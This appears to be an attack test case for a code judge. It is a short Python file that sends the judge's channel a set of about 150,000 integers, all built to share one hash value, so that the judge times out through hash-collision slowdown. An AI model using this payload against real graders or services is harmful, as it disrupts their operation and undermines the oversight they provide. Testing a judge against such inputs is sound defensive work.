# attack: Sends a set whose items all have the same hash, so that the judge's time runs out instead of its own
# expect: timeout
import os

PRIME = 2**61 - 1
FRAME = b'{"v":{"s":[0,[%s]]}}' % b','.join(b'%d' % (number * PRIME) for number in range(1, 150000))


def f(x):
    data = len(FRAME).to_bytes(4, 'big') + FRAME
    while data:
        data = data[os.write(3, data) :]
    return None
